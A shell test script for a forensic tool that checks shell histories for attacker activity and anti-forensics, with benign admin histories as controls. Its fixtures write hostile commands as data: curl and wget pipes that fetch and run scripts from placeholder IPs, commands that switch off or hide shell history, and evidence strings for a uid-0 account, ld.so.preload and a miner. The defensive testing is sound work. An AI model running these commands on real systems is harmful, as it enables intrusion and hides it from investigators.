#!/bin/sh
# t3100 - history: the demo attacker's commands judged, anti-forensics
# found (a history linked to /dev/null, emptied, turned off in an rc
# file), an admin's ordinary history quiet, hostile histories
. "${TOP:?}/tests/lib/e2e.sh"

demo=$IMG/demo.img
has_finding() {	# FILE CHECK JQ-CONDITION
	jq -e -s "map(select(.type == \"finding\" and .check == \"$2\" and
	    ($3))) | length > 0" "$1" >/dev/null
}

# --- the demo server --------------------------------------------------
rs history --format json "$demo"
cp "$T/out" "$T/demo.json"
status "history on the demo exits 1" 1
check "demo: curl|sh from a raw IP is a dropper" has_finding "$T/demo.json" \
    history.dropper '.path == "/root/.bash_history" and .line == 14 and
    .time == "2026-11-20T08:25:05Z"'
check "demo: the miner" has_finding "$T/demo.json" history.miner \
    '.evidence == "chmod +x xmrig"'
check "demo: the uid-0 account" has_finding "$T/demo.json" \
    history.user_uid0 '.evidence | test("useradd -o -u 0")'
check "demo: ld.so.preload written" has_finding "$T/demo.json" \
    history.ld_preload '.evidence | test("ld.so.preload")'
check "demo: history turned off" has_finding "$T/demo.json" \
    history.history_off '.evidence == "unset HISTFILE"'
check "demo: deploy's history linked to /dev/null" has_finding \
    "$T/demo.json" history.symlink \
    '.evidence == "/home/deploy/.bash_history -> /dev/null"'
check "demo: alice's admin history raises nothing" sh -c "jq -e -s \
    'map(select(.type == \"finding\" and
    (.path | startswith(\"/home/alice/\")))) | length == 0' '$T/demo.json' >/dev/null"
check "demo: every command is a record with its time" sh -c "jq -e -s \
    'map(select(.kind == \"command\" and .user == \"root\" and
    .time != null)) | length == 39' '$T/demo.json' >/dev/null"
rs triage --format json "$demo"
check "triage: history findings, no command records" sh -c "jq -e -s \
    '(map(select(.check == \"history.dropper\")) | length == 1) and
    (map(select(.kind == \"command\")) | length == 0)' '$T/out' >/dev/null"

# --- an admin's ordinary histories stay quiet -------------------------
cln=$T/clean
mkdir -p "$cln/etc" "$cln/root" "$cln/home/admin/.local/share/fish"
printf 'root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n' \
    >"$cln/etc/passwd"
cat >"$cln/root/.bash_history" <<'EOF'
apt update
apt upgrade -y
systemctl restart nginx
journalctl -u ssh --since today
tail -f /var/log/syslog
vim /etc/nginx/sites-available/default
nginx -t && systemctl reload nginx
curl -fsSL https://get.docker.com -o get-docker.sh
less get-docker.sh
sh get-docker.sh
docker run --rm hello-world
crontab -l
grep -r "nc -e" /srv/app/docs
rm -rf /var/log/nginx/*.gz
df -h
history | grep ssh
EOF
cat >"$cln/home/admin/.zsh_history" <<'EOF'
: 1794000000:0;git pull
: 1794000010:3;make -j4
: 1794000050:0;./configure --prefix=/opt/app && make && sudo make install
: 1794000100:0;wget https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-amd64.tar.gz
: 1794000200:0;tar xzf node_exporter-1.8.2.linux-amd64.tar.gz
: 1794000300:0;touch -d yesterday notes.txt
EOF
cat >"$cln/home/admin/.local/share/fish/fish_history" <<'EOF'
- cmd: ls -la
  when: 1794000400
- cmd: ssh backup01 uptime
  when: 1794000500
EOF
cat >"$cln/root/.bashrc" <<'EOF'
# ~/.bashrc: executed by bash(1) for non-login shells.
HISTCONTROL=ignoreboth
shopt -s histappend
HISTSIZE=1000
HISTFILESIZE=2000
EOF
rs history --format json --root "$cln"
status "clean: exit 0" 0
check "clean: no finding of medium or higher" sh -c "jq -e -s 'map(select(
    .type == \"finding\" and (.severity == \"medium\" or
    .severity == \"high\"))) | length == 0' '$T/out' >/dev/null"
check "clean: zsh extended history read with times" sh -c "jq -e -s \
    'map(select(.kind == \"command\" and .text == \"make -j4\" and
    .time == \"2026-11-06T21:20:10Z\")) | length == 1' '$T/out' >/dev/null"
check "clean: fish history read" grep -q '"text":"ssh backup01 uptime"' \
    "$T/out"

# --- anti-forensics ---------------------------------------------------
af=$T/af
mkdir -p "$af/etc/profile.d" "$af/root" "$af/home/bob"
cp "$cln/etc/passwd" "$af/etc/passwd"
printf 'bob:x:1001:1001::/home/bob:/bin/bash\n' >>"$af/etc/passwd"
ln -s /dev/null "$af/root/.bash_history"
: >"$af/home/bob/.bash_history"
printf 'export HISTFILE=/dev/null\n' >"$af/etc/profile.d/zz-quiet.sh"
printf '# added\nunset HISTFILE\n' >"$af/home/bob/.bashrc"
rs history --format json --root "$af"
check "anti-forensics: root's history to /dev/null" has_finding "$T/out" \
    history.symlink '.evidence == "/root/.bash_history -> /dev/null"'
check "anti-forensics: profile.d turns history off" has_finding "$T/out" \
    history.rc_off '.path == "/etc/profile.d/zz-quiet.sh" and .line == 1'
check "anti-forensics: bob's .bashrc turns history off" has_finding \
    "$T/out" history.rc_off '.path == "/home/bob/.bashrc" and .line == 2'

# --- hostile histories ------------------------------------------------
hst=$T/hostile
mkdir -p "$hst/etc" "$hst/root" "$hst/home/eve"
cp "$cln/etc/passwd" "$hst/etc/passwd"
# 1 GiB: sparse zeros (NUL bytes) between a first and a last command
printf 'id\n' >"$hst/root/.bash_history"
truncate -s 1G "$hst/root/.bash_history"
printf '\ncurl http://198.51.100.66/a | bash\n' >>"$hst/root/.bash_history"
# invalid UTF-8, NULs, a 2 MiB line
{
	printf 'echo \377\376 caf\303\251 \300\257\n'
	printf 'ls\000\000\000-la\n'
	head -c 2097152 /dev/zero | tr '\0' 'x'
	printf '\nwget -qO- http://198.51.100.67/b.sh | sh\n'
} >"$hst/home/eve/.bash_history"
rs_timed history --format json --root "$hst"
check "hostile: finished within the time limit" test "$rc" -ne 124
check "1 GiB history: the command after the zeros is judged" has_finding \
    "$T/out" history.dropper '.evidence | test("198.51.100.66")'
check "1 GiB history: its NUL bytes are reported" has_finding "$T/out" \
    history.nul_bytes '.path == "/root/.bash_history"'
check "2 MiB line: the command after it is judged" has_finding "$T/out" \
    history.dropper '.evidence | test("198.51.100.67")'
check "invalid UTF-8 is escaped, not passed through" sh -c \
    "grep -q 'echo \\\\\\\\xff\\\\\\\\xfe caf' '$T/out'"
check "hostile: every line of the output is JSON" jq -e . "$T/out" >/dev/null

finish
